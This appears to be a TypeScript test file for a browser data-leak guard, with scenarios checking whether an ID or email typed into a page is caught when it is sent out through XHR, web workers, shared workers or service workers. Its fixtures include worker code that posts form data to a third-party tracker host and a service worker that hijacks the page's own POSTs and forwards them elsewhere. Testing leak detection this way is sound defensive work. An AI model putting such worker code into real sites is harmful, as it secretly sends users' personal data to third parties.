// Scenarios 50 and 53: what leaves while the page stands still, and what leaves by way of a worker.
import { EMAIL, emailField, ID, idField, type Scenario } from '#tests/coverage/scenario.ts';
import { app, fault, post } from './parts.ts';

const BY_BROWSER = { chromium: 'recorded', firefox: 'held' } as const;
const third = {
  type: [['[name=idcard]', ID]],
  send: '#send',
  value: ID,
  to: 'third',
  expected: BY_BROWSER,
} as const;

/** In a worker: sends what it is told, and answers once it went. */
const SENDER = (tracker: string, answer: string) =>
  `fetch('https://${tracker}/work', { method: 'POST', body: data, mode: 'no-cors' }).then(() => ${answer}.postMessage('sent'), () => ${answer}.postMessage('failed'));`;

const DEDICATED = (tracker: string) => `onmessage = ({ data }) => { ${SENDER(tracker, 'globalThis')} };`;
const answered = (port: string) => `await new Promise((done, failed) => {
  ${port}.onmessage = ({ data }) => (data === 'sent' ? done() : failed(new Error(data)));`;

const TELL = (worker: string) => `${answered(worker)} ${worker}.postMessage(value); })`;

/** Registered and in charge before the page says that it is ready. */
const REGISTER = `const ready = navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(async () => {
  if (!navigator.serviceWorker.controller) await new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done, { once: true }));
  said.textContent = 'set up';
});`;
const IN_CHARGE = `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());`;

const setUp: Scenario['send'] = async (tab) => {
  await tab.waitFor("said.textContent === 'set up'");
  await tab.click('#send');
};

const REWRITING = (tracker: string) => `${IN_CHARGE}
onfetch = (event) => {
  if (event.request.method !== 'POST') return;
  event.respondWith(event.request.text().then((body) =>
    fetch('https://${tracker}/rewritten', { method: 'POST', body: JSON.stringify({ body }), mode: 'no-cors' }).then(() => new Response('{}'))));
};`;

export const WORKERS: readonly Scenario[] = [
  {
    id: '50',
    what: 'A synchronous XMLHttpRequest in a submit handler.',
    pages: () => ({
      'site /': `<form>${idField}<button id="send">Send</button></form><p id="said">ready</p><script>
document.forms[0].onsubmit = (event) => {
  event.preventDefault();
  const request = new XMLHttpRequest();
  request.open('POST', '/save', false);
  try { request.send(JSON.stringify({ id: event.target.idcard.value })); said.textContent = 'status ' + request.status; }
  catch (error) { said.textContent = error.name; }
};</script>`,
    }),
    type: [['[name=idcard]', ID]],
    // The press is over once the page is no longer frozen: after the answer.
    send: async (tab) => {
      void tab.click('#send').catch(() => undefined);
    },
    freezes: true,
    value: ID,
    expected: BY_BROWSER,
    row: { channel: 'xhr' },
  },
  {
    ...third,
    id: '53a',
    what: 'fetch in a worker.',
    pages: ({ third }) => ({
      'site /': app(idField, TELL('worker'), "const worker = new Worker('/worker.js');"),
      'site /worker.js': DEDICATED(third),
    }),
  },
  {
    ...third,
    id: '53b',
    what: 'fetch in a worker from a blob.',
    pages: ({ third }) => ({
      'site /': app(
        idField,
        TELL('worker'),
        `const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(DEDICATED(third))}])));`,
      ),
    }),
  },
  {
    ...third,
    id: '53c',
    what: 'fetch in a shared worker.',
    pages: ({ third }) => ({
      'site /': app(idField, TELL('port'), "const { port } = new SharedWorker('/shared.js');"),
      'site /shared.js': `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => { ${SENDER(third, 'port')} }; };`,
    }),
  },
  {
    ...third,
    id: '53d',
    what: 'A service worker sends on what the page tells it.',
    pages: ({ third }) => ({
      'site /': app(
        idField,
        `const { port1, port2 } = new MessageChannel();
${answered('port1')} navigator.serviceWorker.controller.postMessage(value, [port2]); })`,
        REGISTER,
      ),
      'site /sw.js': `${IN_CHARGE} onmessage = ({ data, ports: [port] }) => { ${SENDER(third, 'port')} };`,
    }),
    send: setUp,
  },
  {
    ...third,
    id: '53e',
    what: 'A service worker sends the page’s own POST elsewhere.',
    pages: ({ third }) => ({ 'site /': app(emailField, post('value'), REGISTER), 'site /sw.js': REWRITING(third) }),
    type: [['[name=email]', EMAIL]],
    send: setUp,
    value: EMAIL,
    expected: 'recorded',
    row: { page: 'site53e.test' as never },
  },
  {
    ...third,
    id: '53f',
    what: 'The same with a number that is asked about: the page’s own POST is held, and in Firefox what the worker makes of it.',
    pages: ({ third }) => ({ 'site /': app(idField, post('value'), REGISTER), 'site /sw.js': REWRITING(third) }),
    send: setUp,
    to: 'site',
    expected: 'held',
    // It is somebody else whom the worker sends it to.
    questions: (browser, mode) => (browser === 'firefox' && mode === 'allowed' ? 2 : 1),
    also: async (attempt) =>
      attempt.mode === 'allowed'
        ? fault((await attempt.rows('third')).length > 0, 'the record names not where the worker sent it')
        : [],
  },
];
